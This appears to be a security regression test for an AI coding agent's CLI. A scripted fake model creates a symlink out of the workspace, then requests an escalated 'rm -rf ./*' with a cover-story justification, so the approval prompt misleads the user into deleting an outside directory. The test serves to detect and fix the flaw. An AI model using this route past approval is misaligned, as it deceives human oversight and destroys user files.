#!/usr/bin/env python3
"""An escalated command's approval question shows the model's `workdir` as written.  A previous
sandboxed command made `build` a symlink to a directory outside the workspace (here a stand-in
for ~/important); the question reads "in <workspace>/build  $ rm -rf ./*", the user approves a
clean-up of the build directory, and the command runs unsandboxed in the symlink's target.
(For patches the question names what a path outside the roots resolves to; for the command's
cwd it does not.)  Drives the real REPL in a pty.  Exit 1 while vulnerable."""
import json, os, pty, select, signal, struct, subprocess, sys, tempfile, time, shutil, fcntl, termios

CODEX = os.environ.get("CODEX_BIN", os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..", "dist", "codex"))
HERE = os.path.dirname(os.path.abspath(__file__))
T = tempfile.mkdtemp(prefix="f13.", dir="/var/tmp")
home, chome, ws, important = (os.path.join(T, d) for d in ("home", "codexhome", "ws", "important"))
for d in (home, chome, ws, important):
    os.makedirs(d)
open(os.path.join(important, "precious.txt"), "w").write("do not delete\n")
subprocess.run(["git", "init", "-q", ws], check=True)
script = [[{"shell": ["ln", "-s", important, "build"]}],
          [{"shell": ["sh", "-c", "rm -rf ./*"], "workdir": "build", "escalate": True,
            "justification": "The sandbox cannot clean the stale build directory; removing its contents."}],
          [{"text": "done"}]]
sp = os.path.join(T, "script.json")
json.dump(script, open(sp, "w"))
pf = os.path.join(T, "port")
srv = subprocess.Popen([sys.executable, os.path.join(HERE, "fakemodel.py"), sp, pf])
for _ in range(50):
    if os.path.exists(pf) and open(pf).read():
        break
    time.sleep(0.1)
port = open(pf).read()
open(os.path.join(chome, "config.toml"), "w").write(
    'model = "gpt-5"\nmodel_provider = "fake"\n[model_providers.fake]\nname = "fake"\n'
    'base_url = "http://127.0.0.1:%s/v1"\nwire_api = "responses"\nenv_key = "FAKE_API_KEY"\n' % port)
env = dict(os.environ, HOME=home, CODEX_HOME=chome, FAKE_API_KEY="x", TERM="dumb")
pid, fd = pty.fork()
if pid == 0:
    os.chdir(ws)
    os.execve(CODEX, [CODEX, "-s", "workspace-write", "-a", "on-request", "--trust", "clean up"], env)
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 200, 0, 0))

def read_until(pred, secs):
    buf = b""
    end = time.time() + secs
    while time.time() < end:
        r, _, _ = select.select([fd], [], [], 0.3)
        if r:
            try:
                chunk = os.read(fd, 65536)
            except OSError:
                break
            if not chunk:
                break
            buf += chunk
            if pred(buf):
                time.sleep(0.5)
                break
    return buf

out = read_until(lambda b: b"Allow command?" in b and b"[n]" in b.split(b"Allow command?")[-1], 40)
q = out.split(b"Allow command?")[-1].decode("utf-8", "replace")
print("---- the question ----\nAllow command?" + q.split("[y]")[0] + "----")
os.write(fd, b"y")
read_until(lambda b: b"done" in b, 15)
for sig in (signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(pid, sig)
    except OSError:
        pass
    time.sleep(0.3)
srv.kill()
deleted = not os.path.exists(os.path.join(important, "precious.txt"))
named = important in q
shutil.rmtree(T, ignore_errors=True)
print("question names the real directory:", named, "| file outside the workspace deleted after 'y':", deleted)
if deleted and not named:
    print("VULNERABLE: the approval showed <workspace>/build; the command ran in the symlink's target")
    sys.exit(1)
print("fixed" if named or not deleted else "inconclusive")
sys.exit(0)
